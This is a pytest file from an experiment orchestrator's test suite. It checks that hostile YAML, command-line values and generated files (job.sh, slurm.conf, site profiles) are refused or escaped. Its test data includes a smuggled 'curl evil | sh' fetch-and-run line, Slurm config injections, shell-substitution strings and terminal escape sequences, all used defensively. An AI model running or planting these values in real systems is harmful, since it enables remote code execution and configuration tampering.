"""Hostile input, round 2 (issue 30): the YAML reader, CLI values and the files orch generates.
Each hostile value is one clear ``file:line`` error (exit 2 on the command line), never a
traceback, and nothing orch writes lets a value out of its quoting."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from orchestrator.errors import SourceError
from orchestrator.plan.sweep import parse_sweep
from orchestrator.yamlsource import MAX_FILE_BYTES, load_yaml

SWEEP = """\
name: demo
experiments:
  - name: e
    workload: gemm
    sites: [local]
    walltime: 10
    grid: {devices: [1], m: 64}
"""


def yaml_error(text: str) -> str:
    with pytest.raises(SourceError) as info:
        load_yaml("f.yaml", text)
    return str(info.value)


# ---------------------------------------------------------------- the YAML reader

def test_the_size_bound_is_in_bytes_not_characters(tmp_path: Path) -> None:
    # Fewer characters than the bound, more bytes: once cut after a decode, silently.
    padding = "# " + "\u00e9" * (MAX_FILE_BYTES // 2) + "\n"
    assert len(SWEEP + padding) <= MAX_FILE_BYTES < len((SWEEP + padding).encode())
    path = tmp_path / "s.yaml"
    path.write_text(SWEEP + padding, encoding="utf-8")
    for call in (lambda: parse_sweep(path), lambda: parse_sweep(path, SWEEP + padding)):
        with pytest.raises(SourceError, match="larger than 4 MiB"):
            call()


def test_a_sparse_huge_file_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    with open(path, "wb") as handle:
        handle.write(SWEEP.encode())
        handle.truncate(3 * 1024 ** 3)  # 3 GB of holes: nothing on disk
    with pytest.raises(SourceError, match="larger than 4 MiB"):
        parse_sweep(path)


@pytest.mark.parametrize("text, expected", [
    ("a: 1 # a bell \x07 in a comment\n", "f.yaml:1: a control character (U+0007) cannot be part of a YAML file"),
    ("a: 1\nb: \"\x1b[31m\"\n", "f.yaml:2: a control character (U+001B)"),
    ('a: 1\nb: "x\\e[31m"\n', "f.yaml:2: b: a control character (U+001B) cannot be part of a value"),
    ('a: "\\x07"\n', "f.yaml:1: a: a control character (U+0007)"),
    ('a: "\\x9b"\n', "f.yaml:1: a: a control character (U+009B)"),
    ('"k\\e": 1\n', "f.yaml:1: a control character (U+001B)"),
    ('a: "\\ud800"\n', "f.yaml:1: a: a lone surrogate (\\ud800) is not a character"),
    ("a: !!bool maybe\n", "f.yaml:1: 'maybe' is not a valid !!bool"),
    ("a: 1\nb: !!timestamp nope\n", "f.yaml:2: 'nope' is not a valid !!timestamp"),
    ("a: !!int ''\n", "f.yaml:1: '' is not a valid !!int"),
    ("a: !!float x\n", "f.yaml:1: 'x' is not a valid !!float"),
])
def test_control_characters_surrogates_and_bad_tags_are_one_line_errors(text: str, expected: str) -> None:
    message = yaml_error(text)
    assert message.startswith(expected), message
    assert "\n" not in message


def test_chained_aliases_past_the_nesting_limit_are_refused_not_a_recursion_error() -> None:
    # Each anchored value is 45 levels deep (under the composer's bound); 30 of them chained nest
    # 1,350 levels in 3 KB.
    lines = ["x0: &a0 " + "[" * 45 + "1" + "]" * 45]
    lines += [f"x{i}: &a{i} " + "[" * 45 + f"*a{i - 1}" + "]" * 45 for i in range(1, 30)]
    text = "\n".join(lines) + "\n"
    assert len(text) < 4000
    assert "values nest more than 50 levels deep once its aliases are expanded" in yaml_error(text)


def test_a_merge_key_is_an_override_not_a_duplicate() -> None:
    doc = load_yaml("f.yaml", "base: &base {name: a, x: 1}\nb:\n  <<: *base\n  name: b\n")
    assert doc.data["b"] == {"name": "b", "x": 1}
    assert doc.line_of(("b", "name")) == 4
    doc = load_yaml("f.yaml", "p: &p {x: 1}\nq: &q {y: 2}\nb:\n  <<: [*p, *q]\n  x: 3\n")
    assert doc.data["b"] == {"x": 3, "y": 2}
    assert "f.yaml:3: b.x: duplicate key" in yaml_error("b:\n  x: 1\n  x: 2\n")


def test_a_merged_sweep_plans_with_its_own_value() -> None:
    text = SWEEP.replace("  - name: e\n", "  - &base\n    name: e\n") + "  - <<: *base\n    name: f\n    walltime: 20\n"
    loaded = parse_sweep("s.yaml", text)
    assert [(e.name, e.walltime) for e in loaded.sweep.experiments] == [("e", 10), ("f", 20)]


# ---------------------------------------------------------------- site profiles

LOCAL_PROFILE = (Path(__file__).resolve().parents[2] / "sites" / "local.yaml").read_text()


def bad_site(tmp_path: Path, tail: str, name: str = "bad") -> Path:
    directory = tmp_path / "sites"
    directory.mkdir(exist_ok=True)
    (directory / f"{name}.yaml").write_text(LOCAL_PROFILE.replace("name: local", f"name: {name}") + tail)
    return directory


@pytest.mark.parametrize("systems, expected", [
    ("[a]", "systems: expected a mapping"),
    ("3", "systems: expected a mapping"),
    ("{a: 3}", "systems.a: expected a mapping of the values this system overrides"),
    ("{a: [x]}", "systems.a: expected a mapping of the values this system overrides"),
    ("{1: {}}", "systems: expected a system name (text), got 1"),
])
@pytest.mark.parametrize("target", ["bad", "bad:a", "bad:1"])
def test_malformed_systems_are_one_line_errors(tmp_path: Path, systems: str, expected: str, target: str) -> None:
    from orchestrator.sites.profiles import load_site

    directory = bad_site(tmp_path, f"systems: {systems}\n")
    line = LOCAL_PROFILE.count("\n") + 1
    with pytest.raises(SourceError) as info:
        load_site(target, [directory])
    assert str(info.value).startswith(f"{directory}/bad.yaml:{line}: {expected}"), str(info.value)


def test_one_bad_profile_does_not_break_sites_list_for_the_others(tmp_path: Path) -> None:
    from tests.conftest import run_orch

    directory = bad_site(tmp_path, "# a bell \x07 in a comment\n")
    proc = run_orch("--sites-dir", str(directory), "sites", "list", "--json", cwd=tmp_path)
    assert proc.returncode == 2
    import json

    listed = {row["site"] for row in json.loads(proc.stdout)}
    assert {"local", "polaris"} <= listed and "bad" not in listed
    assert proc.stderr.strip().splitlines() == [
        f"error: {directory}/bad.yaml:{LOCAL_PROFILE.count(chr(10)) + 1}: a control character (U+0007) "
        "cannot be part of a YAML file, not even in a comment"]


# ---------------------------------------------------------------- command-line values

def orch_error(tmp_path: Path, *args: str) -> str:
    """The one line ``orch ARGS`` printed, asserting it exited 2 with no traceback."""
    from tests.conftest import run_orch

    proc = run_orch(*args, cwd=tmp_path, env={"ORCH_HOME": str(tmp_path / "home")})
    assert proc.returncode == 2, (proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), proc.stderr
    return lines[0]


def test_a_variant_name_that_is_not_text_is_a_clear_error(tmp_path: Path) -> None:
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SWEEP + "variants:\n  1: {walltime: 5}\n")
    for variant in ("1", "x"):
        line = orch_error(tmp_path, "plan", str(sweep), "--dry-run", "--variant", variant)
        assert line == f"error: {sweep}:9: variants.1: expected a variant name (text), got 1 (quote it)"


@pytest.mark.parametrize("walltime", ["99999999999999999999", '"99999999999999999999:00:00"', '"400-00:00:00"'])
def test_a_walltime_past_a_year_is_refused_at_plan_not_an_overflow(tmp_path: Path, walltime: str) -> None:
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SWEEP.replace("walltime: 10", f"walltime: {walltime}"))
    for dry in (["--dry-run"], []):
        line = orch_error(tmp_path, "plan", str(sweep), *dry)
        assert line.startswith(f"error: {sweep}:6: experiments[0].walltime: walltime ") and "more than a year" in line
    assert not (tmp_path / "home").exists() or not any((tmp_path / "home").rglob("job.sh"))


@pytest.mark.parametrize("value", ["-1", "0", "nan", "inf", "1e300"])
def test_a_poll_interval_must_be_a_finite_positive_number(tmp_path: Path, value: str) -> None:
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SWEEP)
    assert "expected seconds between polls" in orch_error(tmp_path, "status", "--watch", "--interval", value)
    assert "expected seconds between polls" in orch_error(tmp_path, "run", str(sweep), "--interval", value)
    assert "expected at least 1 second between polls" in orch_error(tmp_path, "follow", "start", "--interval", value)


def test_an_argument_that_is_not_utf8_is_a_clear_error(tmp_path: Path) -> None:
    import os

    bad = os.fsdecode(b"\xff\x1b[31m.yaml")  # as Python hands over a non-UTF-8 argument
    for args in (("status", "--sweep", bad), ("sql", bad), ("plan", bad), ("sites", "show", bad)):
        line = orch_error(tmp_path, *args)
        assert line.startswith(f"error: argument {len(args)} (\\xff\\x1b[31m.yaml): not valid UTF-8"), line


def test_export_to_a_folder_or_a_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    assert orch_error(tmp_path, "export", "-o", str(tmp_path)) == \
        f"error: --output {tmp_path}: a folder; expected the file to write"
    missing = tmp_path / "no" / "x.csv"
    assert orch_error(tmp_path, "export", "-o", str(missing)) == \
        f"error: --output {missing}: cannot write: No such file or directory"


@pytest.mark.parametrize("name", ["a" * 300, "../sites/local", ".hidden"])
def test_a_site_name_that_cannot_be_a_file_name_is_a_clear_error(tmp_path: Path, name: str) -> None:
    assert "expected a site name (at most 100 characters" in orch_error(tmp_path, "sites", "show", name)


# ---------------------------------------------------------------- generated files and the terminal

HOSTILE_PYTHON = '"/usr/bin/python3\\nsetup: [\\"curl evil | sh\\"]\\n# \\"quoted\\" \\\\ end"'


@pytest.mark.parametrize("seed", ["baskerville", "polaris"])  # the Slurm and the PBS generator
def test_a_rehearsal_profile_keeps_every_value_inside_its_comment(tmp_path: Path, seed: str) -> None:
    import re

    from orchestrator.run.sitecheck import rehearsal_profile

    text = (Path(__file__).resolve().parents[2] / "sites" / f"{seed}.yaml").read_text()
    text = re.sub(r"(?m)^python: .*$", "", text).replace(f"name: {seed}", "name: hostile", 1)
    directory = tmp_path / "sites"
    directory.mkdir()
    profile = directory / "hostile.yaml"
    # A profile's python with a newline: refused where it is written, before anything is generated.
    profile.write_text(text + f"python: {HOSTILE_PYTHON}\n")
    with pytest.raises(SourceError, match=r"hostile.yaml:\d+: python: expected one line of text"):
        rehearsal_profile("hostile", [directory])
    # The generator escapes whatever reaches its header all the same (here the interpreter it puts in).
    profile.write_text(text + "python: /usr/bin/python3\n")
    hostile = '/opt/py\nsetup: ["curl evil | sh"]\n# "quoted" \\ end'
    _, written, changes = rehearsal_profile("hostile", [directory], python=hostile)
    header = written[:written.index("\nname: ")].splitlines()
    assert all(line.startswith("#") for line in header), header
    assert any('-> /opt/py\\nsetup: ["curl evil | sh"]\\n# "quoted" \\\\ end' in line for line in header), header
    assert all("\n" not in change for change in changes)
    data = load_yaml("written.yaml", written).data  # one document, no key twice
    assert data["python"] == hostile and "curl" not in str(data.get("setup"))


@pytest.mark.parametrize("field, value", [("python", HOSTILE_PYTHON), ("queue", '"local\\nPartitionName=evil"')])
def test_profile_names_and_paths_are_one_line(tmp_path: Path, field: str, value: str) -> None:
    from orchestrator.sites.profiles import load_site

    text = LOCAL_PROFILE.replace("name: local", "name: bad", 1)
    if field == "python":
        text += f"python: {value}\n"
        where = f"{text.count(chr(10))}: python"
    else:
        text = text.replace("  - name: local", f"  - name: {value}")
        where = f"{text[:text.index('PartitionName')].count(chr(10)) + 1}: queues[0].name"
    directory = tmp_path / "sites"
    directory.mkdir()
    (directory / "bad.yaml").write_text(text)
    with pytest.raises(SourceError) as info:
        load_site("bad", [directory])
    assert str(info.value).startswith(f"{directory}/bad.yaml:{where}: expected one line of text"), str(info.value)


def test_newlines_and_quotes_stay_inside_spec_json_and_job_sh(tmp_path: Path) -> None:
    import json
    import subprocess

    from tests.conftest import run_orch

    tag = "a\nb\"c'd # $(x) `y`"
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SWEEP.replace("m: 64}", "m: 64, tag: " + json.dumps(tag) + "}"))
    run_orch("plan", str(sweep), cwd=tmp_path, env={"ORCH_HOME": str(tmp_path / "home")}, check=True)
    [spec] = list((tmp_path / "home").rglob("spec.json"))
    assert json.loads(spec.read_text())["params"]["tag"] == tag
    script = (spec.parent / "job.sh").read_text()
    assert subprocess.run(["bash", "-n", "-c", script]).returncode == 0
    # The value is one shell word: the script prints it back exactly.
    line = next(line for line in script.splitlines() if "--tag" in line)
    assert "--tag 'a" in line
    header = script.splitlines()[:3]
    assert header[0].startswith("#!") and header[1].startswith("# orch run ")


def test_plan_output_escapes_terminal_sequences(tmp_path: Path) -> None:
    from tests.conftest import run_orch

    bad = tmp_path / "\x1b]0;owned\x07.yaml"
    bad.write_text("name: x\nexperiments: 3\n")
    proc = run_orch("plan", str(bad), "--dry-run", cwd=tmp_path, env={"ORCH_HOME": str(tmp_path / "home")})
    assert proc.returncode == 2 and "\x1b" not in proc.stderr and "\x07" not in proc.stderr
    assert "\\x1b]0;owned\\x07.yaml:2: experiments: " in proc.stderr


def test_table_cells_are_text_with_control_characters_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    import io

    from rich.console import Console

    from orchestrator.cli import output

    buffer = io.StringIO()
    monkeypatch.setattr(output, "console", Console(file=buffer, width=200))
    output.print_table(["a", "b"], [["x\x1b[2Jy", "[bold]z[/bold] [/nope]"]])
    printed = buffer.getvalue()
    assert "\x1b" not in printed and "x\\x1b[2Jy" in printed and "[bold]z[/bold] [/nope]" in printed


# ---------------------------------------------------------------- issue 30, the rest

def test_field_paths_name_the_field_not_pydantics_internals(tmp_path: Path) -> None:
    # A list as a walltime came out as "experiments[0].walltime.str" (the union member tried).
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SWEEP.replace("walltime: 10", "walltime: [10]"))
    line = orch_error(tmp_path, "plan", str(sweep), "--dry-run")
    assert line.startswith(f"error: {sweep}:6: experiments[0].walltime: "), line
    assert ".str" not in line


def test_a_queue_max_walltime_that_is_a_list_names_the_field(tmp_path: Path) -> None:
    from orchestrator.sites.profiles import load_site

    directory = tmp_path / "sites"
    directory.mkdir()
    text = LOCAL_PROFILE.replace("name: local", "name: bad")
    assert "max_walltime:" in text
    (directory / "bad.yaml").write_text(text.replace("max_walltime:", "max_walltime: [1] #", 1))
    with pytest.raises(SourceError) as info:
        load_site("bad", [directory])
    message = str(info.value)
    assert ".max_walltime: " in message and ".str" not in message, message


def test_a_null_key_in_a_profiles_env_is_named_as_a_key(tmp_path: Path) -> None:
    # It came out as "env.None.[key]: Input should be a valid string".
    directory = bad_site(tmp_path, "env: {~: x}\n")
    line = LOCAL_PROFILE.count("\n") + 1
    assert orch_error(tmp_path, "--sites-dir", str(directory), "sites", "show", "bad") == \
        f"error: {directory}/bad.yaml:{line}: env: the key None must be text (quote it, or give it a name)"


def test_invalid_utf8_is_reported_with_its_line_and_column(tmp_path: Path) -> None:
    sweep = tmp_path / "s.yaml"
    sweep.write_bytes(SWEEP.encode().replace(b"name: e", b"name: caf\xe9"))
    line = orch_error(tmp_path, "plan", str(sweep), "--dry-run")
    assert line == f"error: {sweep}:3: not UTF-8 text: byte 0xe9 at column 14 (save the file as UTF-8)"


@pytest.mark.parametrize("text, expected", [
    ("entries: 3\n", "calibration.yaml:1: expected a mapping with a list 'entries'"),
    ("entries:\n  - 3\n", "calibration.yaml:2: entries[0]: expected a mapping"),
    ("entries:\n  - {site: local, device_model: x, matmul: abc, memory: 0.5, network: 0.5, op_overhead_us: 1}\n",
     "calibration.yaml:2: entries[0].matmul: expected a number from 0.01 to 2, got 'abc'"),
    ("entries:\n  - {site: local, device_model: x, matmul: .nan, memory: 0.5, network: 0.5, op_overhead_us: 1}\n",
     "calibration.yaml:2: entries[0].matmul: expected a number from 0.01 to 2, got nan"),
    ("entries:\n  - {site: local, device_model: x, matmul: 0.5, memory: 0.5, network: 0.5}\n",
     "calibration.yaml:2: entries[0].op_overhead_us: expected a number from 0 to 5000, got None"),
    ("a: \"\\x07\"\n", "calibration.yaml:1: a: a control character (U+0007)"),
])
def test_a_damaged_calibration_file_is_a_located_error(tmp_path: Path, text: str, expected: str) -> None:
    # orch calibrate writes it; a hand edit used to end a plan in a ValueError or KeyError.
    home = tmp_path / "home"
    home.mkdir()
    (home / "calibration.yaml").write_text(text)
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SWEEP)
    line = orch_error(tmp_path, "plan", str(sweep), "--dry-run")
    assert line.startswith(f"error: {home}/{expected}"), line


def test_twin_slurm_conf_keeps_profile_values_on_their_line() -> None:
    # A device model with a newline in a profile reached slurm.conf's "# label: describe" comment.
    from orchestrator.sites.sandbox import configs
    from orchestrator.sites.sandbox.layout import TwinLayout
    from tests.sites.test_sandbox_configs import SYNTHETIC

    groups: list[dict[str, Any]] = [dict(g) for g in SYNTHETIC["groups"]]  # type: ignore[attr-defined]
    groups[0]["describe"] = "4x A100\nPartitionName=evil Nodes=ALL"
    data: dict[str, Any] = {**SYNTHETIC, "groups": groups}
    data["twin"] = "synthetic\nSlurmctldPort=1"
    text = configs._slurm_conf(layout=TwinLayout.from_dict(data))
    lines = text.splitlines()
    assert not any(line.startswith(("PartitionName=evil", "SlurmctldPort=1")) for line in lines)
    assert "# synthetic: 4x A100\\nPartitionName=evil Nodes=ALL" in lines
